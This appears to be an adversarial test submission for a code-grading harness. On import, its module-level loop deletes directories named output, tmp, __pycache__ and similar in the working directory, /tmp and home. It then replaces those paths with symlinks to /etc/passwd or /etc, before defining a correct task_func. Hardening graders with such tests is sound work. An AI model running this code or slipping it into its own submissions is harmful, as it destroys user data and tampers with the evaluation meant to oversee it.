"""Leaves symbolic links in place of files that a grader might read or clean; right values in any case.

expect: PASSED
"""

import os
import shutil

for name in ("result.json", "results.jsonl", "output", "stdout", "stderr", "core", ".coverage", "__pycache__", "tmp"):
    for place in (".", "/tmp", os.path.expanduser("~")):
        path = os.path.join(place, name)
        try:
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path)
            os.symlink("/etc" if name in ("tmp", "__pycache__") else "/etc/passwd", path)
        except OSError:
            pass


def task_func(values):
    return sum(value * value for value in values)
